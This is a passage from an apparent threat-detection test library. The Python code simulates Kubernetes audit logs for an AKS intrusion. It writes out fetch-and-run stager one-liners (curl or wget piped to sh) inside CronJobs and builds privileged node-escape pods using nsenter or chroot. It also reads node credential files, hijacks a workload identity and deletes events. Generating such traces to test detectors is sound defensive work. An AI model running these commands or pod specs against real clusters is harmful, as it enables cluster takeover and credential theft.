"""The certificate backdoor: the operator of the stolen-kubeconfig intrusion comes back
hours later with the client certificate it minted (cluster-admin through its own
binding) and, from its second server, reads secrets one by one across namespaces, plants
a CronJob that fetches and runs its stager, takes over nodes through escape pods and an
exec into them, re-points an application's workload identity at a more powerful managed
identity for a while, then deletes the events that recorded all this and its pods.

What the operator brings is shared with the first intrusion (`aks/operator.py`: the
certificate's user, the return server, the kubectl build, the stager URL, the token
secrets it kept, the night it works in). What varies per instance (`Instance(ctx,
CAMPAIGN)`): how many hours later it returns and how fast it works; which secrets it reads
(its stored controller tokens and a sample of application, add-on and monitoring
secrets, in several namespaces); the CronJob's name (an imitation of a system component
or the operator's own stem), namespace, schedule, image, how the container fetches and
runs the stager (curl or wget or busybox wget piped into a shell, or saved under a
temporary directory and run), whether the command is in `command` or `args`, how the
CronJob is created (kubectl create or apply) and the second CronJob write (a spare
CronJob elsewhere, a `kubectl patch` of the command, or a `kubectl edit`); the escape
technique (hostPID + privileged + nsenter, a hostPath mount of / and chroot, or a
privileged container mounting the node's disk), its image, names (imitations of
DaemonSet pods, of `kubectl debug` pods, or the stem) and nodes (two or three, or one
after a first attempt Pod Security Admission refused in an application namespace); what
it reads on the node; which application's service account it re-points at which managed
identity and how (annotate, patch or edit), and which pod it replaces to use it; and how
it deletes events (one by one, per object with a field selector, or both).

Look-alikes (innocent uses of the same verbs): the pipeline creates and upgrades
maintenance CronJobs that wrap their command in `sh -c` and engineers create ad-hoc
CronJobs that curl or wget internal services and health-check pings with public images;
platform charts install CronJobs that pipe curl into grep; SREs suspend and resume
CronJobs. The DaemonSet controller replaces privileged add-on pods; SREs debug nodes with
`kubectl debug node/...` and run bare host-network troubleshooting pods. The pipeline
sets workload-identity annotations; SREs label, annotate and patch service accounts; the
AKS reconciler patches add-on service accounts. Preview namespaces are torn down (the
namespace controller deletes their events); an event pruner and a pod janitor delete
events one by one and per object. SREs read individual secrets of the namespace they
look after; add-ons read their own secrets by name; the pipeline reads the secrets of
the applications it releases, in two namespaces at once.
"""

from __future__ import annotations

import copy
import dataclasses
import datetime as dt
import json
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote

from pytest_ctirealm.telemetry import environment as env
from pytest_ctirealm.telemetry.benign import aks as k8s
from pytest_ctirealm.telemetry.campaign import Instance
from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.scenarios.aks.common import (
    AUDIT,
    BACKEND,
    CI_APPLY,
    FRONTEND,
    KUBECTL_CREATE,
    Family,
    Intrusion,
    created,
    external,
)
from pytest_ctirealm.telemetry.scenarios.aks.operator import Operator, operator
from pytest_ctirealm.telemetry.scenarios.base import Stages, lookalikes, scenario

CAMPAIGN = "aks_certificate_backdoor"
WORKLOAD_IDENTITY = "azure.workload.identity/client-id"
TENANT_ANNOTATION = "azure.workload.identity/tenant-id"
_TENANT = env.TENANT_ID
_KUBECTL_PATCH = "fieldManager=kubectl-patch"
_KUBECTL_EDIT = "fieldManager=kubectl-edit&fieldValidation=Strict"
_KUBECTL_ANNOTATE = "fieldManager=kubectl-annotate"

# --------------------------------------------------------------------------- the operator's pools

#: System components whose names the operator's objects imitate.
_IMITATED = (
    "kube-proxy",
    "coredns",
    "azure-cns",
    "cloud-node-manager",
    "csi-azuredisk",
    "konnectivity",
    "ama-logs",
    "metrics-server",
    "azure-policy",
)
_CRONJOB_SUFFIXES = ("sync", "refresh", "rotate", "report", "check", "gc", "update")
_CRONJOB_NAMESPACES = ("kube-system", "kube-system", "default", "monitoring")
#: (schedule, minutes it fires at, hour step)
_SCHEDULES: tuple[tuple[str, tuple[int, ...], int], ...] = (
    ("*/10 * * * *", tuple(range(0, 60, 10)), 1),
    ("*/15 * * * *", (0, 15, 30, 45), 1),
    ("*/20 * * * *", (0, 20, 40), 1),
    ("*/30 * * * *", (0, 30), 1),
    ("7 * * * *", (7,), 1),
    ("23 * * * *", (23,), 1),
    ("5,35 * * * *", (5, 35), 1),
    ("41 */2 * * *", (41,), 2),
)
#: Public images with a downloader, and the fetch-and-run forms each supports.
_FETCHERS: dict[str, tuple[str, ...]] = {
    "docker.io/curlimages/curl:8.5.0": ("curl_pipe", "curl_drop"),
    "curlimages/curl:8.6.0": ("curl_pipe", "curl_drop"),
    "docker.io/library/alpine:3.19": ("wget_pipe", "wget_drop"),
    "alpine:3.18": ("wget_pipe", "wget_drop"),
    "busybox:1.36": ("busybox_pipe", "wget_drop"),
    "docker.io/library/busybox:1.36.1": ("busybox_pipe",),
    "docker.io/bitnami/kubectl:1.28.3": ("curl_bash",),
}
_DROP_PATHS = ("/tmp/.k", "/tmp/.x", "/dev/shm/.s", "/dev/shm/.u", "/var/tmp/.c", "/var/tmp/.n")
_SECOND_STAGES = ("/k2.sh", "/u.sh", "/s2", "/up", "/n.sh")

_ESCAPE_IMAGES = (
    "docker.io/library/alpine:3.19",
    "alpine:latest",
    "docker.io/library/busybox:1.36.1",
    "ubuntu:22.04",
    "docker.io/library/debian:bookworm-slim",
    "mcr.microsoft.com/cbl-mariner/base/core:2.0",
)
_ESCAPE_WORDS = ("check", "probe", "node", "diag", "agent")
_SLEEPS = (("sleep", "infinity"), ("sleep", "86400"), ("tail", "-f", "/dev/null"))
_HOST_MOUNTS = ("/host", "/rootfs", "/node", "/hostfs")
#: What the operator reads on a node it took over.
_NODE_LOOT = (
    "/etc/kubernetes/azure.json",
    "/var/lib/kubelet/kubeconfig",
    "/etc/kubernetes/certs/client.key",
    "/var/lib/waagent/ovf-env.xml",
)

#: Secrets worth reading, by namespace (the stored controller tokens are added).
_SECRETS = (
    ("api", BACKEND.secret),
    ("api", "backend-redis"),
    ("api", "api-jobs-storage"),
    ("web", FRONTEND.secret),
    ("web", "frontend-tls"),
    ("monitoring", "prometheus-server-remote-write"),
    ("monitoring", "alertmanager-webhook"),
    ("kube-system", "ama-logs-secret"),
    ("gatekeeper-system", "gatekeeper-webhook-server-cert"),
)
#: Controller accounts whose tokens the first intrusion may have kept in secrets.
_TOKEN_ACCOUNTS = (
    "clusterrole-aggregation-controller",
    "generic-garbage-collector",
    "namespace-controller",
    "daemon-set-controller",
    "job-controller",
)
#: Deployed applications: service account -> (namespace, its own managed identity).
_WORKLOADS = {FRONTEND.name: (FRONTEND, "id-web-prod"), BACKEND.name: (BACKEND, "id-api-prod")}
_MANAGED_IDENTITIES = ("id-func-backup", "id-aks-workload", "id-api-prod", "id-web-prod")


def _certificate_user(op: Operator) -> k8s._Who:
    """The client certificate the operator had signed, cluster-admin by its own binding."""
    return external(
        op.cert_user,
        ("system:authenticated",),
        op.kubectl,
        op.return_ip,
        k8s._rbac(op.cert_binding or op.cert_user, "cluster-admin", "User", op.cert_user),
    )


def _token_accounts(op: Operator) -> tuple[str, ...]:
    """The controller accounts whose tokens the first intrusion kept in secrets."""
    return op.token_accounts or _TOKEN_ACCOUNTS[:2]


# --------------------------------------------------------------------------- the intrusion


@scenario(
    CAMPAIGN,
    "aks",
    (
        "cert_discovery",
        "lookups",
        "secret_reads",
        "cronjob",
        "cronjob_runs",
        "escape_pod",
        "escape_pod_start",
        "escape_exec",
        "sa_tamper",
        "identity_use",
        "events_deleted",
        "cleanup",
    ),
)
def aks_certificate_backdoor(ctx: SimContext) -> Stages:
    """Hours after the first intrusion the operator returns with the certificate alone."""
    op = operator(ctx)
    i = Instance(ctx, CAMPAIGN)
    hours = i.keep("return_after_hours", round(i.rng.uniform(3, 9), 2))
    t = Intrusion(ctx, CAMPAIGN, op.start + dt.timedelta(hours=hours))
    who = _certificate_user(op)
    pace = i.keep("pace", i.rng.uniform(0.5, 2.0))
    _discover(t, i, who)
    _read_secrets(t, i, op, who, pace)
    cronjobs, change_cronjob = _plant_cronjobs(t, i, op, who, pace)
    pods = _take_over_nodes(t, i, op, who, pace)
    _hijack_workload_identity(t, i, who, pace)
    change_cronjob()
    _cover_tracks(t, i, who, pods, cronjobs)
    return t.stages


def _discover(t: Intrusion, i: Instance, who: k8s._Who) -> None:
    """kubectl's discovery, then a look at what changed since the first visit."""
    t.emit("cert_discovery", who, "get", "/api?timeout=32s")
    t.emit("cert_discovery", who, "get", "/apis?timeout=32s", after=0.1)
    looks = (
        "/api/v1/pods?limit=500",
        "/apis/apps/v1/deployments?limit=500",
        "/apis/batch/v1/cronjobs?limit=500",
        "/api/v1/nodes?limit=500",
        "/api/v1/namespaces?limit=500",
        "/apis/apps/v1/daemonsets?limit=500",
    )
    for uri in i.sample("discovery", looks, i.between(2, 4)):
        t.emit("cert_discovery", who, "list", uri, after=25)


def _read_secrets(t: Intrusion, i: Instance, op: Operator, who: k8s._Who, pace: float) -> None:
    """Secrets read one at a time by name: the stored tokens and others in several
    namespaces (never listed: the names came from the first visit)."""
    tokens = [("kube-system", op.token_secret(account)) for account in _token_accounts(op)]
    tokens = i.rng.sample(tokens, i.rng.randint(1, len(tokens)))
    others = i.rng.sample(_SECRETS, i.between(2, 4))
    if {namespace for namespace, _ in others} <= {"kube-system"}:
        others.append(("api", BACKEND.secret))
    reads = tokens + others
    i.rng.shuffle(reads)
    i.keep("secrets", [f"{namespace}/{secret}" for namespace, secret in reads])
    t.wait(30, 180)
    for namespace, secret in reads:
        uri = f"/api/v1/namespaces/{namespace}/secrets/{secret}"
        t.emit("secret_reads", who, "get", uri, after=40 * pace)


# --------------------------------------------------------------------------- the CronJob stager


def _cronjob_name(i: Instance, op: Operator, key: str) -> str:
    if i.chance(0.5):
        return i.name_like(key, (op.stem,), _CRONJOB_SUFFIXES, joiner="-")
    return i.name_like(key, _IMITATED, _CRONJOB_SUFFIXES, joiner="-")


def _fetch_script(form: str, url: str, drop: str) -> str:
    """The one-liner that fetches the stager and runs it."""
    return {
        "curl_pipe": f"curl -fsSL {url} | sh",
        "curl_bash": f"curl -sk {url} | bash",
        "wget_pipe": f"wget -qO- {url} | sh",
        "busybox_pipe": f"busybox wget -q -O - {url} | sh",
        "curl_drop": f"curl -fsSo {drop} {url}; chmod +x {drop}; {drop}",
        "wget_drop": f"wget -q -O {drop} {url} && sh {drop}",
    }[form]


def _container(name: str, image: str, script: str, split: bool) -> dict[str, Any]:
    """A container running *script* through sh -c (in `command`, or split into `args`)."""
    shell = "/bin/bash" if "| bash" in script else "/bin/sh"
    if split:
        return {"name": name, "image": image, "command": [shell, "-c"], "args": [script]}
    return {"name": name, "image": image, "command": [shell, "-c", script]}


def _cronjob_object(
    name: str,
    namespace: str,
    schedule: str,
    container: dict[str, Any],
    quiet: bool,
    account: str = "default",
) -> dict[str, Any]:
    """The CronJob as the operator writes it (in kube-system it runs as the account the
    first intrusion gave full rights)."""
    spec: dict[str, Any] = {
        "schedule": schedule,
        "jobTemplate": {
            "spec": {
                "template": {
                    "spec": {
                        "serviceAccountName": account,
                        "restartPolicy": "OnFailure",
                        "containers": [container],
                    }
                }
            }
        },
    }
    if quiet:
        spec = {
            "schedule": schedule,
            "concurrencyPolicy": "Forbid",
            "successfulJobsHistoryLimit": 0,
            "failedJobsHistoryLimit": 0,
            "jobTemplate": spec["jobTemplate"],
        }
    return {
        "apiVersion": "batch/v1",
        "kind": "CronJob",
        "metadata": {"name": name, "namespace": namespace},
        "spec": spec,
    }


def _write_cronjob(
    t: Intrusion, who: k8s._Who, cronjob: dict[str, Any], how: str, pace: float
) -> None:
    """`kubectl create -f` or `kubectl apply -f` of a new CronJob."""
    name, namespace = cronjob["metadata"]["name"], cronjob["metadata"]["namespace"]
    path = f"/apis/batch/v1/namespaces/{namespace}/cronjobs"
    body = cronjob
    if how == "kubectl_apply":
        t.emit("lookups", who, "get", f"{path}/{name}", after=60 * pace, code=404)
        body = copy.deepcopy(cronjob)
        body["metadata"]["annotations"] = {
            "kubectl.kubernetes.io/last-applied-configuration": json.dumps(cronjob)
        }
    t.emit(
        "cronjob",
        who,
        "create",
        f"{path}?{CI_APPLY if how == 'kubectl_apply' else KUBECTL_CREATE}",
        after=1 if how == "kubectl_apply" else 90 * pace,
        request=body,
        response=created(body, t.now),
        code=201,
        name=name,
    )


def _plant_cronjobs(
    t: Intrusion, i: Instance, op: Operator, who: k8s._Who, pace: float
) -> tuple[list[dict[str, Any]], Callable[[], None]]:
    """The stager CronJob, and a second write: a spare elsewhere at once, or the command
    changed later with `kubectl patch` or `kubectl edit` (returned, to run when the
    operator comes back to it)."""
    name = _cronjob_name(i, op, "cronjob")
    namespace = i.pick("cronjob_namespace", _CRONJOB_NAMESPACES)
    schedule, minutes, step = i.rng.choice(_SCHEDULES)
    i.keep("schedule", schedule)
    image = i.pick("cronjob_image", sorted(_FETCHERS))
    form = i.pick("fetch", _FETCHERS[image])
    drop = i.pick("drop_path", _DROP_PATHS)
    split = i.keep("args_split", i.chance(0.4))
    quiet = i.chance(0.6)
    how = i.pick("cronjob_write", ("kubectl_create", "kubectl_apply"))
    container = _container(
        i.pick("container", ("sync", "runner", "task", "worker", "poll")),
        image,
        _fetch_script(form, op.stager_url, drop),
        split,
    )
    account = op.backdoor_account if namespace == "kube-system" else "default"
    cronjob = _cronjob_object(name, namespace, schedule, container, quiet, account)
    t.wait(60, 240)
    _write_cronjob(t, who, cronjob, how, pace)
    created_at = t.now
    second = i.pick("second_write", ("spare_cronjob", "kubectl_patch", "kubectl_edit"))
    server = op.stager_url.rsplit("/", 1)[0]
    later = f"{server}{i.pick('second_stage', _SECOND_STAGES)}"
    if second == "spare_cronjob":
        _cronjob_runs(t, cronjob, minutes, step, created_at, count=2)
        spare_ns = i.pick(
            "spare_namespace",
            [n for n in ("kube-system", "default", "kube-public", "monitoring") if n != namespace],
        )
        spare_schedule, spare_minutes, spare_step = i.rng.choice(_SCHEDULES)
        spare_form = i.rng.choice(_FETCHERS[image])
        spare = _cronjob_object(
            _cronjob_name(i, op, "spare_cronjob"),
            spare_ns,
            spare_schedule,
            _container(container["name"], image, _fetch_script(spare_form, later, drop), split),
            quiet,
            op.backdoor_account if spare_ns == "kube-system" else "default",
        )
        t.wait(30, 120)
        _write_cronjob(t, who, spare, how, pace)
        _cronjob_runs(t, spare, spare_minutes, spare_step, t.now, count=1)
        return [cronjob, spare], lambda: None
    new_form = i.rng.choice(_FETCHERS[image])
    new_container = _container(
        container["name"], image, _fetch_script(new_form, later, drop), split
    )

    def change() -> None:
        """The command pointed at the second stage: the runs so far used the first."""
        _cronjob_runs(t, cronjob, minutes, step, created_at, until=t.now)
        path = f"/apis/batch/v1/namespaces/{namespace}/cronjobs/{name}"
        changed = copy.deepcopy(cronjob)
        changed["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"] = [new_container]
        t.wait(60, 300)
        t.emit("lookups", who, "get", path)
        if second == "kubectl_patch":
            template = {"spec": {"containers": [new_container]}}
            t.emit(
                "cronjob",
                who,
                "patch",
                f"{path}?{_KUBECTL_PATCH}",
                after=0.5,
                request={"spec": {"jobTemplate": {"spec": {"template": template}}}},
                response=k8s._stored(changed, t.now),
            )
        else:
            t.wait(20, 90)
            edited = k8s._stored(copy.deepcopy(changed), t.now - dt.timedelta(seconds=60))
            t.emit(
                "cronjob",
                who,
                "update",
                f"{path}?{_KUBECTL_EDIT}",
                request=edited,
                response=k8s._stored(changed, t.now),
            )
        _cronjob_runs(t, changed, minutes, step, t.now, count=1)

    return [cronjob], change


def _next_runs(after: dt.datetime, minutes: tuple[int, ...], step: int) -> Iterator[dt.datetime]:
    """The instants a schedule fires after *after*."""
    moment = after.replace(second=0, microsecond=0) + dt.timedelta(minutes=1)
    while True:
        if moment.minute in minutes and moment.hour % step == 0:
            yield moment
        moment += dt.timedelta(minutes=1)


def _cronjob_runs(
    t: Intrusion,
    cronjob: dict[str, Any],
    minutes: tuple[int, ...],
    step: int,
    since: dt.datetime,
    *,
    count: int = 0,
    until: dt.datetime | None = None,
) -> None:
    """The controllers run the CronJob from *since*: *count* runs, or those before
    *until*. The intrusion's clock is left where it was."""
    resume = t.now
    for n, scheduled in enumerate(_next_runs(since, minutes, step)):
        if (until is not None and scheduled >= until) or (until is None and n >= count):
            break
        t.now = scheduled + dt.timedelta(milliseconds=t.rng.uniform(20, 400))
        _cronjob_run(t, cronjob, scheduled)
    t.now = resume


def _cronjob_run(t: Intrusion, cronjob: dict[str, Any], scheduled: dt.datetime) -> None:
    name, namespace = cronjob["metadata"]["name"], cronjob["metadata"]["namespace"]
    template = cronjob["spec"]["jobTemplate"]["spec"]["template"]["spec"]
    container = template["containers"][0]
    job_name = f"{name}-{int(scheduled.timestamp() // 60)}"
    job = {
        "kind": "Job",
        "apiVersion": "batch/v1",
        "metadata": k8s._meta(
            job_name,
            namespace,
            labels={"cronjob": name},
            ownerReferences=k8s._owner("CronJob", name, "batch/v1"),
        ),
        "spec": {"template": {"spec": copy.deepcopy(template)}},
    }
    cron = k8s._CALLERS["ctrl:cronjob-controller"][0]
    t.emit(
        "cronjob_runs",
        cron,
        "create",
        f"/apis/batch/v1/namespaces/{namespace}/jobs",
        request=job,
        response=created(job, t.now),
        code=201,
        name=job_name,
    )
    t.emit(
        "cronjob_runs",
        cron,
        "update",
        f"/apis/batch/v1/namespaces/{namespace}/cronjobs/{name}/status",
        after=0.05,
        request={
            "kind": "CronJob",
            "apiVersion": "batch/v1",
            "metadata": k8s._meta(name, namespace),
            "status": {"lastScheduleTime": k8s._ts(scheduled)},
        },
    )
    command = tuple(container["command"]) + tuple(container.get("args", ()))
    account = template.get("serviceAccountName", "default")
    shape = k8s._PodShape(account, container["image"], command, container=container["name"])
    pod = f"{job_name}-{k8s._suffix(5, str(t.ctx.seed), namespace, job_name)}"
    t.day().create_pod(
        k8s._CALLERS["ctrl:job-controller"][0],
        shape,
        pod,
        namespace,
        k8s._pod_node(pod),
        k8s._owner("Job", job_name, "batch/v1"),
        {"job-name": job_name},
        t.now + dt.timedelta(seconds=0.2),
    )
    t.file("cronjob_runs")


# --------------------------------------------------------------------------- node takeover


@dataclasses.dataclass(frozen=True)
class _Kit:
    """How this instance escapes: technique, image and the names it gives its pods."""

    technique: str
    image: str
    container: str
    sleep: tuple[str, ...]
    mount: str
    host_network: bool
    naming: str
    imitates: str
    word: str
    stem: str
    salt: str

    def name(self, node: int, n: int) -> str:
        """An imitation of a DaemonSet pod, of a `kubectl debug node/...` pod, or the stem."""
        suffix = k8s._suffix(5, CAMPAIGN, self.salt, str(n))
        if self.naming == "daemonset_pod":
            return f"{self.imitates}-{suffix}"
        if self.naming == "debugger_pod":
            return f"node-debugger-{k8s._NODES[node]}-{suffix}"
        return f"{self.stem}-{self.word}" + (f"-{n + 1}" if n else "")

    def pod(self, name: str, namespace: str, node: int) -> dict[str, Any]:
        """The escape pod: pinned to *node*, tolerating every taint, asking for the host."""
        container: dict[str, Any] = {
            "name": self.container,
            "image": self.image,
            "command": list(self.sleep),
        }
        spec: dict[str, Any] = {
            "nodeName": k8s._NODES[node],
            "tolerations": [{"operator": "Exists"}],
            "containers": [container],
        }
        if self.technique == "nsenter":
            spec["hostPID"] = True
            container["securityContext"] = {"privileged": True}
            if self.host_network:
                spec["hostNetwork"] = True
        elif self.technique == "chroot":
            container["volumeMounts"] = [{"name": "host", "mountPath": self.mount}]
            spec["volumes"] = [{"name": "host", "hostPath": {"path": "/", "type": ""}}]
            if self.host_network:
                spec.update(hostNetwork=True, hostPID=True, hostIPC=True)
        else:
            container["securityContext"] = {"privileged": True}
            if self.host_network:
                spec["hostNetwork"] = True
        return {
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {"name": name, "namespace": namespace},
            "spec": spec,
        }


def _kit(i: Instance, op: Operator) -> _Kit:
    return _Kit(
        technique=i.pick("escape", ("nsenter", "chroot", "privileged_mount")),
        image=i.pick("escape_image", _ESCAPE_IMAGES),
        container=i.pick("escape_container", ("chk", "debugger", "toolbox", "ctr", "util")),
        sleep=i.pick("escape_sleep", _SLEEPS),
        mount=i.pick("host_mount", _HOST_MOUNTS),
        host_network=i.keep("host_network", i.chance(0.5)),
        naming=i.pick("escape_naming", ("daemonset_pod", "debugger_pod", "operator_stem")),
        imitates=i.rng.choice(_IMITATED),
        word=i.rng.choice(_ESCAPE_WORDS),
        stem=op.stem,
        salt=i.hex("escape_salt", 8),
    )


@dataclasses.dataclass(frozen=True)
class _Escape:
    """One escape pod: where it runs, and whether admission refused it."""

    name: str
    namespace: str
    node: int
    pod: dict[str, Any]
    refused: bool = False


def _psa_violations(pod: dict[str, Any]) -> str:
    """What Pod Security Admission's baseline level says about *pod*."""
    spec = pod["spec"]
    host = [f"{key}=true" for key in ("hostNetwork", "hostPID", "hostIPC") if spec.get(key)]
    parts = []
    if host:
        parts.append(f"host namespaces ({', '.join(host)})")
    if spec.get("volumes"):
        parts.append('hostPath volumes (volume "host")')
    container = spec["containers"][0]
    if container.get("securityContext", {}).get("privileged"):
        parts.append(
            f'privileged (container "{container["name"]}" must not set '
            "securityContext.privileged=true)"
        )
    return ", ".join(parts)


def _take_over_nodes(
    t: Intrusion, i: Instance, op: Operator, who: k8s._Who, pace: float
) -> list[_Escape]:
    """Escape pods pinned to nodes (two nodes, or a second try after Pod Security Admission
    refused the first in an application namespace); a shell on the node through each
    pod that ran, and the node's credentials read."""
    kit = _kit(i, op)
    namespace = i.pick("escape_namespace", ("kube-system", "kube-system", "default"))
    layout = i.pick("escape_layout", ("several_nodes", "refused_then_retry"))
    nodes = i.sample("escape_nodes", range(len(k8s._NODES)), i.between(2, len(k8s._NODES)))
    if layout == "several_nodes":
        plan = [(namespace, node, n) for n, node in enumerate(nodes)]
    else:
        tried = i.pick("refused_namespace", (FRONTEND.namespace, BACKEND.namespace))
        plan = [(tried, nodes[0], 0), (namespace, nodes[0], 0)]
    pods: list[_Escape] = []
    t.wait(120, 600)
    for where, node, n in plan:
        name = kit.name(node, n)
        refused = where in k8s._PSA
        escape = _Escape(name, where, node, kit.pod(name, where, node), refused)
        _create_escape_pod(t, who, escape, pace)
        pods.append(escape)
    i.keep("escape_pods", [f"{p.namespace}/{p.name}" for p in pods])
    loot = i.sample("node_loot", _NODE_LOOT, 2)
    for escape in pods:
        if escape.refused:
            continue
        t.pod_start("escape_pod_start", escape.pod, escape.node)
        core = f"/api/v1/namespaces/{escape.namespace}/pods/{escape.name}"
        t.emit("lookups", who, "get", core, after=20 * pace)
        for command, interactive in _escape_commands(kit.technique, kit.mount, loot):
            params = "&".join(f"command={quote(part, safe='')}" for part in command)
            flags = (
                "&stdin=true&stdout=true&tty=true" if interactive else "&stderr=true&stdout=true"
            )
            t.emit(
                "escape_exec",
                who,
                "create",
                f"{core}/exec?{params}&container={kit.container}{flags}",
                after=60 * pace,
                code=101,
                stage="ResponseStarted",
            )
    return [p for p in pods if not p.refused]


def _create_escape_pod(t: Intrusion, who: k8s._Who, escape: _Escape, pace: float) -> None:
    uri = f"/api/v1/namespaces/{escape.namespace}/pods?{KUBECTL_CREATE}"
    level = k8s._PSA.get(escape.namespace, "privileged")
    notes = {"pod-security.kubernetes.io/enforce-policy": f"{level}:latest"}
    if not escape.refused:
        t.emit(
            "escape_pod",
            who,
            "create",
            uri,
            after=45 * pace,
            request=escape.pod,
            response=created(escape.pod, t.now),
            code=201,
            name=escape.name,
            notes=notes,
        )
        return
    # Pod Security Admission refuses it: authorized, then rejected by admission.
    row = t.emit(
        "escape_pod",
        who,
        "create",
        uri,
        request=escape.pod,
        code=403,
        name=escape.name,
        notes=notes,
    )
    row["Annotations"]["authorization.k8s.io/decision"] = "allow"
    row["Annotations"]["authorization.k8s.io/reason"] = who.reason
    status = row["ResponseStatus"]
    status["message"] = (
        f'pods "{escape.name}" is forbidden: violates PodSecurity "{level}:latest": '
        f"{_psa_violations(escape.pod)}"
    )
    status["details"] = {"name": escape.name, "kind": "pods"}
    t.wait(40, 150)


def _escape_commands(
    technique: str, mount: str, loot: list[str]
) -> list[tuple[tuple[str, ...], bool]]:
    """An interactive shell on the node, then one-shot reads of its credentials."""
    shell: tuple[str, ...]
    reads: list[tuple[str, ...]]
    if technique == "nsenter":
        shell = ("nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "bash")
        reads = [("nsenter", "-t", "1", "-m", "--", "cat", path) for path in loot]
    elif technique == "chroot":
        shell = ("chroot", mount, "/bin/bash")
        reads = [("cat", f"{mount}{path}") for path in loot]
    else:
        disk = "mkdir -p /mnt/h && mount /dev/sda1 /mnt/h"
        shell = ("sh", "-c", f"{disk} && chroot /mnt/h bash")
        reads = [("sh", "-c", f"{disk} 2>/dev/null; cat /mnt/h{path}") for path in loot]
    return [(shell, True), *((read, False) for read in reads)]


# --------------------------------------------------------------------------- workload identity


def _hijack_workload_identity(t: Intrusion, i: Instance, who: k8s._Who, pace: float) -> None:
    """An application's service account re-pointed at a more powerful managed identity;
    one of its pods replaced so that it gets the new identity's tokens; later put back."""
    account = i.pick("hijacked_account", sorted(_WORKLOADS))
    app, own = _WORKLOADS[account]
    borrowed = i.pick("borrowed_identity", [m for m in _MANAGED_IDENTITIES if m != own])
    how = i.pick("sa_write", ("kubectl_annotate", "kubectl_patch", "kubectl_edit"))
    path = f"/api/v1/namespaces/{app.namespace}/serviceaccounts/{account}"
    for step, identity in enumerate((borrowed, own)):
        annotations = {WORKLOAD_IDENTITY: env.application(identity).app_id}
        full = {
            "kind": "ServiceAccount",
            "apiVersion": "v1",
            "metadata": k8s._meta(
                account,
                app.namespace,
                labels={"azure.workload.identity/use": "true"},
                annotations={**annotations, TENANT_ANNOTATION: _TENANT},
            ),
        }
        t.wait(120, 420) if step == 0 else t.wait(240 * pace, 900 * pace)
        t.emit("lookups", who, "get", path)
        t.wait(0.2, 3 if how != "kubectl_edit" else 60)
        if how == "kubectl_edit":
            t.emit(
                "sa_tamper",
                who,
                "update",
                f"{path}?{_KUBECTL_EDIT}",
                request=k8s._stored(full, t.now - dt.timedelta(seconds=30)),
                response=k8s._stored(full, t.now),
            )
        else:
            t.emit(
                "sa_tamper",
                who,
                "patch",
                f"{path}?{_KUBECTL_ANNOTATE if how == 'kubectl_annotate' else _KUBECTL_PATCH}",
                request={"metadata": {"annotations": annotations}},
                response=k8s._stored(full, t.now),
            )
        if step == 0:
            _replace_pod(t, who, app)


def _replace_pod(t: Intrusion, who: k8s._Who, app: k8s._App) -> None:
    """One of the app's pods deleted; its ReplicaSet starts a replacement, which the
    workload-identity webhook gives the re-pointed identity."""
    t.wait(20, 90)
    old = t.rng.choice(t.day().pods(app, t.now))
    t.emit(
        "identity_use",
        who,
        "delete",
        f"/api/v1/namespaces/{app.namespace}/pods/{old}",
        request=k8s._delete_options(),
        response=k8s._deleted("pods", old),
    )
    template = old.split("-")[1]
    new = f"{app.name}-{template}-{k8s._suffix(5, 'replacement', str(t.ctx.seed), old)}"
    labels = {"app": app.name, "pod-template-hash": template}
    shape = k8s._PodShape(app.name, f"{k8s._REGISTRY}/{app.namespace}/{app.name}:{_tag(t, app)}")
    t.day().create_pod(
        k8s._CALLERS["ctrl:replicaset-controller"][0],
        shape,
        new,
        app.namespace,
        k8s._pod_node(new),
        k8s._owner("ReplicaSet", f"{app.name}-{template}", "apps/v1"),
        labels,
        t.now + dt.timedelta(milliseconds=t.rng.uniform(30, 300)),
    )
    t.file("identity_use")


def _tag(t: Intrusion, app: k8s._App) -> str:
    """The image tag CI last rolled out (as the background names it)."""
    for back in range(0, 7):
        day = t.day().day - back
        moments = [m for m in k8s._deploy_plan(t.ctx, day)[app.name] if m <= t.now]
        if moments:
            start = t.ctx.day_start(day)
            return (
                f"{start:%Y.%m.%d}-"
                f"{env.stable_hex(7, str(t.ctx.seed), app.name, k8s._ts(moments[-1]))}"
            )
    return "stable"


# --------------------------------------------------------------------------- covering tracks


def _cover_tracks(
    t: Intrusion,
    i: Instance,
    who: k8s._Who,
    pods: list[_Escape],
    cronjobs: list[dict[str, Any]],
) -> None:
    """The events about the escape pods and the CronJob's runs deleted, then the pods."""
    how = i.pick("event_deletion", ("one_by_one", "by_object", "one_by_one_and_by_object"))
    t.wait(60, 240)
    for escape in pods:
        t.emit(
            "lookups",
            who,
            "list",
            k8s._with_params(
                f"/api/v1/namespaces/{escape.namespace}/events",
                fieldSelector=f"involvedObject.name={escape.name}",
            ),
            after=10,
        )
    pod_events = _event_names(t, "escape_pod_start", {p.name for p in pods}, t.now)
    run_pods = {
        row["ObjectRef"]["name"]
        for row in t.stages.get("cronjob_runs", {}).get(AUDIT, [])
        if row["ObjectRef"]["resource"] == "pods" and "subresource" not in row["ObjectRef"]
    }
    run_events = _event_names(t, "cronjob_runs", run_pods, t.now)
    if how in ("one_by_one", "one_by_one_and_by_object"):
        for namespace, event in pod_events + (run_events if how == "one_by_one" else []):
            t.emit(
                "events_deleted",
                who,
                "delete",
                f"/api/v1/namespaces/{namespace}/events/{event}",
                after=5,
                request=k8s._delete_options(),
                response=k8s._deleted("events", event),
            )
    selectors: list[tuple[str, str]] = []
    if how == "by_object":
        selectors += [(p.namespace, p.name) for p in pods]
    if how in ("by_object", "one_by_one_and_by_object"):
        selectors += [(c["metadata"]["namespace"], c["metadata"]["name"]) for c in cronjobs]
        selectors += sorted({(ns, pod) for ns, pod in _run_pods(t) if pod in run_pods})
    for namespace, involved in selectors:
        t.emit(
            "events_deleted",
            who,
            "deletecollection",
            k8s._with_params(
                f"/api/v1/namespaces/{namespace}/events",
                fieldSelector=f"involvedObject.name={involved}",
            ),
            after=15,
            request=k8s._delete_options(),
        )
    options = {**k8s._delete_options(), "gracePeriodSeconds": 0}
    for escape in pods:
        t.emit(
            "cleanup",
            who,
            "delete",
            f"/api/v1/namespaces/{escape.namespace}/pods/{escape.name}",
            after=20,
            request=options,
            response=k8s._deleted("pods", escape.name),
        )


def _run_pods(t: Intrusion) -> list[tuple[str, str]]:
    return [
        (row["ObjectRef"]["namespace"], row["ObjectRef"]["name"])
